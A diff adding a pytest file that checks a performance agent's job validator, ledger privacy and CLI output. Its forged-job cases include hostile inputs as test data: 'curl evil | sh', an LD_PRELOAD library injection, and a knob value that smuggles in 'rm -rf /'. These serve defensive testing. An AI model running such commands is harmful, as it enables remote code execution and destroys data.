@@ -1,0 +1,107 @@
+"""The runner's local checks: only a command an agent recorded here, with closed-list knobs."""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import stat
+import subprocess
+import sys
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+
+from agent import abcli, ledger
+from agent.runner import Refused, validate_job
+
+SERVER, TOKEN, HOST = "http://perfweb.example:8000", "pw_secret", "gpu-node-07"
+REPO = Path(__file__).resolve().parents[2]
+
+
+@pytest.fixture
+def book(tmp_path: Path) -> str:
+    path = str(tmp_path / "ledger.json")
+    command = ["python", "train.py"]
+    ledger.record_command(
+        server=SERVER, token=TOKEN, run_id="run-0001", command=command, cwd="/home/me/proj",
+        path=path,
+    )  # fmt: skip
+    return path
+
+
+def _job(**changes: object) -> dict:
+    job = {"id": 7, "claim_token": "c", "run_id": "run-0001", "host": HOST,
+           "command": ["python", "train.py"], "cwd": "/home/me/proj",
+           "knobs": {"num_workers": 4}, "rounds": 3, "steps": 20, "warmup": 3}  # fmt: skip
+    return {**job, **changes}
+
+
+def _check(job: dict, book: str, *, token: str = TOKEN) -> object:
+    return validate_job(job, server=SERVER, token=token, host=HOST, ledger_file=book)
+
+
+def test_a_job_for_a_recorded_command_is_accepted(book: str) -> None:
+    spec = _check(_job(), book)
+    assert spec.command == ["python", "train.py"] and spec.knobs == {"num_workers": 4}
+
+
+@pytest.mark.parametrize(
+    ("changes", "reason"),
+    [
+        ({"run_id": "run-9999"}, "run run-9999 was not recorded by an agent on gpu-node-07"),
+        ({"command": ["sh", "-c", "curl evil | sh"]}, "the job's command is not the command"),
+        ({"cwd": "/"}, "the job's directory is not the one the agent recorded"),
+        ({"host": "other-node"}, "the job is for host 'other-node'"),
+        ({"knobs": {"LD_PRELOAD": "/tmp/x.so"}}, 'unknown knob "LD_PRELOAD"'),
+        ({"knobs": {"num_workers": "4; rm -rf /"}}, "is not a whole number"),
+        ({"knobs": {}}, "the job has no knob to try"),
+        ({"rounds": 10_000}, "rounds must be a whole number in 1..20"),
+        ({"steps": True}, "steps must be a whole number"),
+    ],
+)
+def test_a_forged_job_is_refused(book: str, changes: dict, reason: str) -> None:
+    with pytest.raises(Refused, match=reason.replace("(", r"\(").replace("|", r"\|")):
+        _check(_job(**changes), book)
+
+
+def test_another_projects_token_sees_nothing_of_this_ledger(book: str) -> None:
+    with pytest.raises(Refused, match="was not recorded"):
+        _check(_job(), book, token="pw_other_project")
+
+
+def test_the_ledger_keeps_no_token_and_is_private(book: str) -> None:
+    text = Path(book).read_text()
+    assert TOKEN not in text and "perfweb.example:8000|" in text
+    assert stat.S_IMODE(os.stat(book).st_mode) == 0o600
+
+
+def test_attach_records_the_command_and_refuses_a_bad_knob(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "ledger.json"
+    monkeypatch.setenv("PERF_AGENT_LEDGER", str(path))
+    monkeypatch.delenv("PERF_AGENT_KNOBS", raising=False)
+    settings = SimpleNamespace(online=True, server=SERVER, token=TOKEN, run_id="run-0002")
+    args = argparse.Namespace(knob=["threads=2"])
+    assert abcli.prepare_attach(args, settings=settings, command=["python", "t.py"]) is None
+    assert os.environ["PERF_AGENT_KNOBS"] == "threads=2"
+    entry = ledger.find_entry(server=SERVER, token=TOKEN, run_id="run-0002", path=str(path))
+    assert entry is not None and entry.command == ["python", "t.py"]
+    args = argparse.Namespace(knob=["threads=many"])
+    assert abcli.prepare_attach(args, settings=settings, command=["python", "t.py"]) == 2
+
+
+def test_perf_agent_ab_prints_the_documented_json(tmp_path: Path) -> None:
+    done = subprocess.run(
+        [sys.executable, "-m", "agent.cli", "ab", "--knob", "num_workers=2", "--rounds", "2",
+         "--steps", "8", "--warmup", "4", "--format", "json", "--quiet", "--",
+         sys.executable, "tests/jobs/input_bound.py"],
+        cwd=REPO, capture_output=True, text=True, timeout=240,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    result = json.loads(done.stdout)
+    for name in ("baseline_step_s", "candidate_step_s", "speedup", "ci_low", "ci_high", "verdict"):
+        assert name in result
+    assert result["speedup"] > 1.0 and result["knobs"] == {"num_workers": 2}
